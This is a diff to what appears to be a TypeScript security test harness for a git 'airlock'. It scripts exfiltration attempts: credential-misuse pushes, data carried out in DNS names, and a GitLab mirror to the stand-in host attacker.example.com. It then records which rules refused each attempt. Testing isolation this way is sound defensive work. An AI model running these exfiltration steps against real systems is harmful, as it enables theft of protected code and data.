@@ -1,10 +1,10 @@
 /** Attempts to get data out, or in by another way, each a real request; and what refused it. */
 import { join } from "node:path";
 import type { ClaimId } from "../../isolation/claims";
-import type { Position } from "../git/gitClient";
+import type { Credential, Position } from "../git/gitClient";
 import { Blocked } from "./sourceNetwork";
-import type { Stage } from "./stage";
-import { namesOf } from "./tripwires";
+import type { Testbed } from "./testbed";
+import { alarmNames } from "./firedAlarm";
 
 /** What became of an attempt. */
 export interface Escape {
@@ -14,8 +14,8 @@ export interface Escape {
   refused: boolean;
   /** The statement or rule that refused it; or what let it through. */
   by: string;
-  /** The alarms that it rings: tripwires, and the source's on what the proxy refuses. */
-  rings: string[];
+  /** The alarms that it fires: tripwires, and the source's on what the proxy refuses. */
+  alarms: string[];
   /** Set where this configuration is known to leave the way open: the claim, and what closes it. */
   knownGap?: string;
 }
@@ -33,18 +33,18 @@ interface Attempt {
  * @param loot the folder of what must not get out (makeLoot)
  */
 export async function tryToEscape(
-  stage: Stage,
+  testbed: Testbed,
   loot: string,
   onEscape: (escape: Escape) => void,
 ): Promise<Escape[]> {
   const escapes: Escape[] = [];
-  for (const { attempt, claim, run, knownGap } of attempts(stage, loot)) {
-    const heard = listen(stage);
-    const rung = stage.hearAlarms();
+  for (const { attempt, claim, run, knownGap } of attempts(testbed, loot)) {
+    const logged = recordLogs(testbed);
+    const fired = testbed.recordAlarms();
     const failed = await run();
-    const rings = namesOf(rung());
+    const alarms = alarmNames(fired());
     const gap = knownGap !== undefined && { knownGap };
-    const escape = { attempt, claim, ...judge(failed, heard()), rings, ...gap };
+    const escape = { attempt, claim, ...judge(failed, logged()), alarms, ...gap };
     onEscape(escape);
     escapes.push(escape);
   }
@@ -52,21 +52,22 @@ export async function tryToEscape(
 }
 
 /** Refused is only what something of the deployment refused: an attempt that failed by itself has shown nothing. */
-function judge(failed: boolean, { leak, refusal }: Heard): Pick<Escape, "refused" | "by"> {
+function judge(failed: boolean, { leak, refusal }: Logged): Pick<Escape, "refused" | "by"> {
   if (leak !== undefined) return { refused: false, by: `the connection left, from ${leak}` };
   if (!failed) return { refused: false, by: "nothing refused it" };
   if (refusal === undefined) return { refused: false, by: "it failed, but nothing refused it" };
   return { refused: true, by: refusal };
 }
 
-interface Heard {
+/** What the logs say of an attempt. */
+interface Logged {
   leak: string | undefined;
   refusal: string | undefined;
 }
 
-/** Remembers where every log stands; the function it returns gives what was last written since. */
-function listen(stage: Stage): () => Heard {
-  const { codeCommit, proxy, workTerminal, gitlabHost, isolatedTerminal, outside, leaks } = stage;
+/** Records every log from now on; the function it returns gives what was last written. */
+function recordLogs(testbed: Testbed): () => Logged {
+  const { codeCommit, proxy, workTerminal, gitlabHost, isolatedTerminal, outside, leaks } = testbed;
   const logs = [
     () => codeCommit.audit.filter(({ allowed }) => !allowed).map(({ reason }) => reason),
     ...[workTerminal, gitlabHost, isolatedTerminal, outside].map(
@@ -83,7 +84,7 @@ function listen(stage: Stage): () => Heard {
 }
 
 /** A repository with one commit at the isolated terminal: what must not get out. Returns its folder. */
-export async function makeLoot({ isolatedTerminal }: Stage): Promise<string> {
+export async function makeLoot({ isolatedTerminal }: Testbed): Promise<string> {
   const cwd = join(isolatedTerminal.home, "loot");
   const author = ["-c", "user.name=insider", "-c", "user.email=insider@isolated.invalid"];
   const commands = [
@@ -97,46 +98,51 @@ export async function makeLoot({ isolatedTerminal }: Stage): Promise<string> {
   return cwd;
 }
 
-function attempts(stage: Stage, loot: string): Attempt[] {
-  const { isolatedTerminal, outside, workTerminal, gitlabHost, isolatedZone, stranger, codeCommit, gitlab } =
-    stage;
-  const { pullCredential, pushCredential, airlock } = stage;
-  const strangersUrl = `https://${codeCommit.hostname}/v1/repos/${stranger.repositoryName}`;
-  const gitlabUrl = `https://${gitlab.hostname}/${airlock.gitlabProject}.git`;
-  const push = (position: Position, url: string, credential: typeof pullCredential) => async () => {
-    const result = await position.git(["push", "--quiet", url, "HEAD:refs/heads/loot"], {
-      cwd: loot,
-      credential,
-    });
-    return result.code !== 0;
+function attempts(testbed: Testbed, loot: string): Attempt[] {
+  return [
+    ...fromIsolatedTerminal(testbed, loot),
+    ...withStolenCredentials(testbed, loot),
+    ...fromSource(testbed, loot),
+  ];
+}
+
+/** Whether a push of the loot fails. */
+function push(position: Position, url: string, credential: Credential, loot: string) {
+  return async () => {
+    const args = ["push", "--quiet", url, "HEAD:refs/heads/loot"];
+    return (await position.git(args, { cwd: loot, credential })).code !== 0;
   };
-  const pull = (position: Position, url: string, credential: typeof pullCredential) => async () =>
-    (await position.git(["ls-remote", url], { credential })).code !== 0;
+}
+
+/** Whether listing a repository fails. */
+function pull(position: Position, url: string, credential: Credential) {
+  return async () => (await position.git(["ls-remote", url], { credential })).code !== 0;
+}
+
+function fromIsolatedTerminal(testbed: Testbed, loot: string): Attempt[] {
+  const { isolatedTerminal, isolatedZone, stranger, airlock, pullCredential, pushCredential } = testbed;
+  const strangersUrl = `https://${testbed.codeCommit.hostname}/v1/repos/${stranger.repositoryName}`;
   const strangersGap = isolatedZone.hasEndpoint
     ? undefined
     : "C5 stays open in addresses mode: one hostname serves every AWS account. Pull through an endpoint to close it.";
   const ownNetworkGap = isolatedZone.hasEndpoint
     ? undefined
     : "C6 rests on the room's own network in addresses mode: nothing of it is deployed here.";
-  const noProxyGap = stage.proxy
-    ? undefined
-    : "C7 is refuted without a proxy: nothing limits where GitLab goes. Set git-airlock:proxy's mode to managed.";
-
   return [
     {
       attempt: "An isolated terminal pushes with the pull credential",
       claim: "C3",
-      run: push(isolatedTerminal, airlock.cloneUrlHttp, pullCredential),
+      run: push(isolatedTerminal, airlock.cloneUrlHttp, pullCredential, loot),
     },
     {
       attempt: "An isolated terminal pushes with the push credential, stolen",
       claim: "C2",
-      run: push(isolatedTerminal, airlock.cloneUrlHttp, pushCredential),
+      run: push(isolatedTerminal, airlock.cloneUrlHttp, pushCredential, loot),
     },
     {
       attempt: "An isolated terminal pushes to a stranger's AWS account, with the stranger's credential",
       claim: "C5",
-      run: push(isolatedTerminal, strangersUrl, stranger.credential),
+      run: push(isolatedTerminal, strangersUrl, stranger.credential, loot),
       knownGap: strangersGap,
     },
     {
@@ -148,7 +154,7 @@ function attempts(stage: Stage, loot: string): Attempt[] {
     {
       attempt: "An isolated terminal pushes to GitLab, with a developer's password",
       claim: "C6",
-      run: push(isolatedTerminal, gitlabUrl, stage.developer),
+      run: push(isolatedTerminal, gitlabUrl(testbed), testbed.developer, loot),
     },
     {
       attempt: "An isolated terminal carries data out in a DNS name",
@@ -160,10 +166,16 @@ function attempts(stage: Stage, loot: string): Attempt[] {
         }),
       knownGap: ownNetworkGap,
     },
+  ];
+}
+
+function withStolenCredentials(testbed: Testbed, loot: string): Attempt[] {
+  const { outside, workTerminal, airlock, pushCredential, pullCredential } = testbed;
+  return [
     {
       attempt: "Somebody outside pushes with the push credential, stolen",
       claim: "C2",
-      run: push(outside, airlock.cloneUrlHttp, pushCredential),
+      run: push(outside, airlock.cloneUrlHttp, pushCredential, loot),
     },
     {
       attempt: "Somebody outside pulls with the pull credential, stolen",
@@ -175,24 +187,33 @@ function attempts(stage: Stage, loot: string): Attempt[] {
       claim: "C3",
       run: pull(workTerminal, airlock.cloneUrlHttp, pullCredential),
     },
+  ];
+}
+
+function fromSource(testbed: Testbed, loot: string): Attempt[] {
+  const { outside, gitlabHost, airlock, pushCredential } = testbed;
+  const noProxyGap = testbed.proxy
+    ? undefined
+    : "C7 is refuted without a proxy: nothing limits where GitLab goes. Set git-airlock:proxy's mode to managed.";
+  return [
     {
       attempt: "GitLab pushes a reference beside the configured ones",
       claim: "C12",
       run: async () => {
-        const refspec = "HEAD:refs/pipelines/1";
-        const options = { cwd: loot, credential: pushCredential, proxyUrl: stage.mirrorProxyUrl };
-        return (await gitlabHost.git(["push", "--quiet", airlock.cloneUrlHttp, refspec], options)).code !== 0;
+        const args = ["push", "--quiet", airlock.cloneUrlHttp, "HEAD:refs/pipelines/1"];
+        const options = { cwd: loot, credential: pushCredential, proxyUrl: testbed.mirrorProxyUrl };
+        return (await gitlabHost.git(args, options)).code !== 0;
       },
     },
     {
       attempt: "Somebody outside knocks at GitLab",
       claim: "C8",
-      run: pull(outside, gitlabUrl, stage.developer),
+      run: pull(outside, gitlabUrl(testbed), testbed.developer),
     },
     {
       attempt: "GitLab mirrors to another host, as a hostile maintainer would have it",
       claim: "C7",
-      run: () => mirrorElsewhere(stage, "https://attacker.example.com/loot.git"),
+      run: () => mirrorElsewhere(testbed, "https://attacker.example.com/loot.git"),
       knownGap: noProxyGap,
     },
     {
@@ -204,7 +225,11 @@ function attempts(stage: Stage, loot: string): Attempt[] {
   ];
 }
 
-async function mirrorElsewhere({ gitlab, pushCredential }: Stage, url: string): Promise<boolean> {
+function gitlabUrl({ gitlab, airlock }: Testbed): string {
+  return `https://${gitlab.hostname}/${airlock.gitlabProject}.git`;
+}
+
+async function mirrorElsewhere({ gitlab, pushCredential }: Testbed, url: string): Promise<boolean> {
   const project = "hostile/exfiltration";
   await gitlab.createProject(project);
   gitlab.setMirror(project, {
